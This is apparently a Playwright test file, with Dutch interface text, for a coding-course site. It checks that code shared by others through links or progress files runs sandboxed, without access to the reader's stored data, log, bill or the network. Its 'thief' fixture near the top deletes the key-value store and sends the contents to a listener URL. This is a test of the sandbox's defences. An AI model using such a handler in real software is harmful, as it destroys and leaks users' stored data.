/**
 * Whose code is it? A stranger's, from a link or somebody else's file, runs in a lab of its own: it finds nothing of the
 * reader's, leaves nothing behind, and never runs where code can reach the internet.
 */
import type { Locator, Page } from 'playwright-core';
import { linkTo } from '../../src/sharing/index.ts';
import { lessonsRead } from '../support/course-size.ts';
import { violations } from './axe.ts';
import { hostRadio, startContainer } from './container-reader.ts';
import { test } from './container-site.ts';
import { listener } from './listener.ts';
import { answerOf, codeOf, EXPIRED_OR_NOTHING, inLooks, playground, run, totalUsd } from './reader.ts';
import { expect } from './site.ts';

const STATE = 'lessen/toestand-bewaar-je-ergens-anders/';
const LIKES = 'Likes in de opslag';

/** Deletes what is stored, writes something of its own, and sends what it found to `address`. */
const thief = (address: string) => `export default async (request, context) => {
  const found = await context.kv.list();
  for (const { key } of found) await context.kv.delete(key);
  await context.kv.put('x', 1);
  const net = await fetch('${address}' + encodeURIComponent(JSON.stringify(found))).then(() => 'net', (error) => error.code ?? error.name);
  return new Response('gevonden: ' + JSON.stringify(found) + ' in ' + (typeof process === 'undefined' ? 'de browser' : 'Node') + ', ' + net);
};
`;

function fragmentOf(name: string, files: Readonly<Record<string, string>>): string {
  return new URL(linkTo('https://cursus.test/', { name, files }) ?? '').hash;
}

async function follow(page: Page, region: Locator, hash: string): Promise<void> {
  await page.evaluate((fragment) => {
    location.hash = fragment;
  }, hash);
  await region.getByText(/Dit is de code van iemand anders/).waitFor();
}

const storeOf = (region: Locator) => region.getByRole('group', { name: 'Opslag' });

test('a copy finds an empty store, and what the reader stored, logged and spent is as it was', async ({
  openLesson,
  onTestFinished,
}) => {
  const { address, asked } = await listener(onTestFinished);
  const page = await openLesson(STATE);
  const region = playground(page, LIKES);
  await run(region);
  await run(region);
  const likes = await storeOf(region).getByRole('row').last().innerText();
  const [bill, log] = [await totalUsd(region), await region.getByRole('log').innerText()];

  await follow(page, region, fragmentOf('likes-in-kv', { 'like.js': thief(address) }));
  expect(await region.getByRole('group', { name: 'Kassabon' }).locator('tfoot').count()).toBe(0);
  await run(region);
  await answerOf(region).getByText('gevonden: [] in de browser').waitFor();
  await storeOf(region)
    .getByText(/Deze opslag is van de code van iemand anders/)
    .waitFor();
  await storeOf(region).getByRole('rowheader', { name: 'x' }).waitFor();

  await region.getByRole('button', { name: 'Ga terug naar mijn versie' }).click();
  await expect.poll(() => storeOf(region).getByRole('row').last().innerText()).toBe(likes);
  expect(await storeOf(region).getByRole('rowheader', { name: 'x' }).count()).toBe(0);
  expect(await totalUsd(region)).toBe(bill);
  const logAfter = await region.getByRole('log').innerText();
  expect(logAfter.slice(0, log.length)).toBe(log);
  expect(logAfter.slice(log.length)).toMatch(EXPIRED_OR_NOTHING);
  expect(await region.evaluate((one) => one.contains(document.activeElement))).toBe(true);
  // What was kept on the device is the reader's too.
  await page.reload();
  await run(region);
  expect(await storeOf(region).innerText()).not.toContain('\nx\n');
  await storeOf(region).getByRole('rowheader', { name: 'likes' }).waitFor();
  expect(asked).toEqual([]);
});

test('a copy never runs in a container, also when the reader chose one; taken over it may, and that is said', async ({
  openLesson,
  onTestFinished,
}) => {
  const { address, asked } = await listener(onTestFinished);
  const page = await openLesson(STATE);
  const region = playground(page, LIKES);
  await startContainer(region);
  await run(region);

  await follow(page, region, fragmentOf('likes-in-kv', { 'like.js': thief(address) }));
  await expect.poll(() => hostRadio(region, 'WebContainer').isDisabled()).toBe(true);
  await run(region);
  await answerOf(region).getByText('gevonden: [] in de browser').waitFor();
  expect(asked).toEqual([]);

  await region.getByRole('button', { name: 'Ga terug naar mijn versie' }).click();
  await expect.poll(() => hostRadio(region, 'WebContainer').isChecked()).toBe(true);

  await follow(page, region, fragmentOf('likes-in-kv', { 'like.js': thief(address) }));
  await region.getByRole('button', { name: 'Bewaar als mijn versie' }).click();
  const dialog = page.getByRole('dialog', { name: 'Wat er in jouw versie verandert' });
  await dialog.getByText(/kan ze ook op het internet/).waitFor();
  await dialog.getByRole('button', { name: 'Maak dit mijn versie' }).click();
  // What it asks of the network takes a busy machine more than the seconds that it has by itself.
  await region.getByText('Headers, body en instellingen').click();
  await region.getByLabel('Timeout').selectOption('30000');
  await run(region);
  await answerOf(region)
    .getByText(/likes.* in Node, net/)
    .waitFor();
  expect(asked.join()).toContain('likes');
});

inLooks(1, (look, name) => {
  test(`a copy says what it is, and what taking it over changes (${name})`, async ({ openLesson }) => {
    const page = await openLesson(
      `${STATE}${fragmentOf('likes-in-kv', { 'like.js': thief('https://x.test/') })}`,
      look,
    );
    const region = playground(page, LIKES);
    await region.getByText(/Dit is de code van iemand anders/).waitFor();
    await region.getByText(/WebContainer staat uit zolang hier code van iemand anders staat/).waitFor();
    expect(await violations(page)).toEqual([]);
    await region.getByRole('button', { name: 'Bewaar als mijn versie' }).click();
    const dialog = page.getByRole('dialog', { name: 'Wat er in jouw versie verandert' });
    await dialog.locator('ins').first().waitFor();
    expect(await violations(page)).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
      look.viewport.width,
    );
    await page.keyboard.press('Escape');
    await region.getByText(/Dit is de code van iemand anders/).waitFor();
  });
});

test('code in somebody else’s progress file shows as theirs, changes no progress, and is gone when left', async ({
  openLesson,
}) => {
  const page = await openLesson('voortgang/');
  const theirs = "export default () => new Response('geplant');";
  const planted = JSON.stringify({ v: 1, base: '0', files: { 'like.js': theirs } });
  await page.getByLabel('Lees een bestand').setInputFiles({
    name: 'v.json',
    mimeType: 'application/json',
    buffer: Buffer.from(
      JSON.stringify({
        functielab: 'voortgang',
        v: 1,
        lessons: { 'betalen-per-gebruik': true },
        exercises: { toString: { passed: [] } },
        code: { 'likes-in-kv': planted },
      }),
    ),
  });
  await page.getByRole('button', { name: 'Van iemand anders' }).click();
  await page.getByText(/De code van 1 functie zie je in dit tabblad/).waitFor();
  await page.getByText(lessonsRead(0)).waitFor();

  await page.goto(new URL(STATE, new URL('..', page.url())).href);
  const region = playground(page, LIKES);
  await region.getByText(/Dit is de code van iemand anders/).waitFor();
  await region.getByRole('textbox', { name: 'Code van like.js' }).click();
  await expect.poll(() => codeOf(region)).toBe(theirs);
  await expect.poll(() => hostRadio(region, 'WebContainer').isDisabled()).toBe(true);
  expect(await region.getByRole('group', { name: 'Kassabon' }).locator('tfoot').count()).toBe(0);
  await region.getByRole('button', { name: 'Ga terug naar mijn versie' }).click();
  await page.reload();
  await expect.poll(() => hostRadio(region, 'WebContainer').isEnabled()).toBe(true);
  expect(await page.getByText(/Dit is de code van iemand anders/).count()).toBe(0);
});
